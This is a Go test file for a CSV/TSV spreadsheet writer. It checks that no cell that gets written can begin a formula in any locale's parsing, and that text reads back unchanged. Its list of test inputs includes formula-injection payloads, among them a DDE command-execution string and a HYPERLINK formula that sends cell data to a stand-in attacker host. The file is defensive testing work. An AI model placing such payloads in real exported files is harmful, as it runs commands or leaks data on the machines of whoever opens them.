package sheet

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"tocsin/internal/testkit/cells"
	"tocsin/internal/testkit/hostile"
)

// attacks are cells that a spreadsheet would run, or that hide one that it would run in another locale.
var attacks = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A", `"=1+1`, `""=1`, `'=1`, " =1", "\u00a0=1", " =1",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"click")`, `a;=1+1`, `a;"=1"`, `a,=1`, "a\t=1", "a\n=1", "a|=1",
	`x";=1`, "a; =1", ";;=1",
	"", "'", "''", "'x", "a;'b", "plain", "a;b", "3-1", "x=y", "José;ÿ", "𝔘nicode", "a\r\nb", "-",
}

// TestPeer_S15_FormulasInCells: nothing that is written can begin a formula, whichever character a program takes for the
// end of a cell, and everything reads back as it was.
func TestPeer_S15_FormulasInCells(t *testing.T) {
	for _, kind := range []rune{CSV, TSV} {
		for _, attack := range append(hostile.Payloads(), attacks...) {
			file := write(t, kind, []string{"first", attack, "last"})
			for _, comma := range []rune{',', ';', '\t', '|'} {
				for _, cell := range loose(file, comma) {
					if runs(cell) {
						t.Errorf("%q as %q, parted by %q: cell %q runs", attack, file, comma, cell)
					}
				}
			}
		}
	}
}

// loose parts a file as a forgiving program of another locale would: at every separator and line end, with quotes taken
// away or not.
func loose(file string, comma rune) (cells []string) {
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(file, byteMark)))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
	for {
		row, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			break
		}
		cells = append(cells, row...)
	}
	for _, c := range strings.FieldsFunc(file, func(c rune) bool { return c == comma || c == '\r' || c == '\n' }) {
		cells = append(cells, c, strings.ReplaceAll(c, `"`, ""))
	}
	return cells
}

// runs is what spreadsheet programs take for a formula.
func runs(cell string) bool {
	cell = strings.TrimLeft(strings.TrimPrefix(cell, byteMark), " \u00a0\u3000\t\r\n\"")
	return cell != "" && strings.ContainsAny(cell[:min(3, len(cell))], "=+-@＝＋－＠") && strings.IndexAny(cell, "=+-@＝＋－＠") == 0
}

func write(t testing.TB, kind rune, rows ...[]string) string {
	t.Helper()
	var b bytes.Buffer
	w := NewWriter(&b, kind)
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestPeer_S15_RoundTrip: a table of any text is read back to the last character.
func TestPeer_S15_RoundTrip(t *testing.T) {
	for _, a := range attacks {
		if got := cells.Unguard(Guard(a)); got != a {
			t.Errorf("%q came back as %q", a, got)
		}
	}
	text := rapid.OneOf(rapid.SampledFrom(attacks), rapid.String(), rapid.StringOfN(rapid.SampledFrom([]rune("=+-@'\";,\t|a ＝")), 0, 12, -1))
	rapid.Check(t, func(rt *rapid.T) {
		kind := rapid.SampledFrom([]rune{CSV, TSV}).Draw(rt, "kind")
		s := rapid.SliceOfN(text, 2, 5).Draw(rt, "row")
		for _, cell := range s {
			if cells.Unguard(Guard(cell)) != cell {
				rt.Fatalf("%q came back as %q", cell, cells.Unguard(Guard(cell)))
			}
		}
		rows, err := cells.Read(strings.NewReader(write(t, kind, s)), kind, 10)
		if err != nil || len(rows) != 1 {
			rt.Fatalf("%d rows, %v", len(rows), err)
		}
		for i, cell := range rows[0] {
			// A file has one way to write a line's end inside a cell; reading makes it a line feed.
			if want := strings.ReplaceAll(Guard(s[i]), "\r\n", "\n"); Guard(cell) != want && cell != s[i] && cell != cells.Unguard(want) {
				rt.Fatalf("%q came back as %q", s[i], cell)
			}
		}
	})
}
